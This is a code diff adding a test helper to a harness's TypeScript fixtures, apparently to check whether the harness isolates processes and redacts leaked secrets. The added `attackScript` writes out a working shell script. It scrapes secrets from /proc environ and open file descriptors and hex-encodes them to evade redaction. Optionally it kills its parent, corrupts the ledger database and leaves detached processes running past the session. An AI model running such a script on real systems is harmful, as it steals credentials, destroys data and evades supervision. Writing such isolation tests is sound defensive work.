@@ -98,3 +98,39 @@ export function makeRepo(): string {
   mkdirSync(join(dir, '.truss/contracts'), { recursive: true });
   return dir;
 }
+
+/**
+ * A shell script that tries every known way to the harness's secrets — its parent's and every
+ * visible process's /proc environ and open fds, the given files, its own env — and prints each
+ * secret-looking token it found once, hex-encoded (so redaction of raw values cannot hide a leak),
+ * compactly enough to fit in the tail the ledger keeps. With `destructive` it also tries to kill its
+ * parent, overwrite the ledger DB and leave `setsid`, double-forked and nohup children sleeping
+ * `<marker>1..3` seconds behind (only for isolated runs: unisolated, those would really happen).
+ */
+export function attackScript(options: {
+  files: readonly string[];
+  marker: string;
+  destructive: boolean;
+}): string {
+  const files = options.files.map((f) => `"${f}"`).join(' ');
+  return String.raw`L=$(mktemp)
+loot() { tr -c 'A-Za-z0-9+/=_-' '\n' | sed 's/^[A-Za-z_][A-Za-z0-9_-]*=//' | awk 'length >= 20 && !/^\// && !/^[0-9a-f]+$/' >> "$L"; }
+flush() { sort -u "$L" | while IFS= read -r v; do printf '%s' "$v" | od -An -tx1 | tr -d ' \n'; echo; done; : > "$L"; }
+echo "attacker uid $(id -u) ppid $PPID"
+cat /proc/$PPID/environ 2>/dev/null | loot; flush
+for f in ${files}; do cat "$f" 2>/dev/null | loot; done; flush
+env | loot; flush
+for f in /proc/[0-9]*/environ; do cat "$f" 2>/dev/null | loot; done; flush
+${options.destructive ? destructive(options.marker) : ''}
+for f in /proc/[0-9]*/fd/*; do timeout 0.2 head -c 65536 "$f" 2>/dev/null | loot; flush; done
+sleep 60
+`;
+}
+
+function destructive(marker: string): string {
+  return String.raw`kill -9 $PPID 2>/dev/null
+printf garbage > .truss/ledger.db 2>/dev/null && echo "wrote ledger"
+setsid sleep ${marker}1 > /dev/null 2>&1 &
+( (sleep ${marker}2 > /dev/null 2>&1 &) & )
+nohup sh -c 'trap "" TERM HUP; exec sleep ${marker}3' > /dev/null 2>&1 &`;
+}
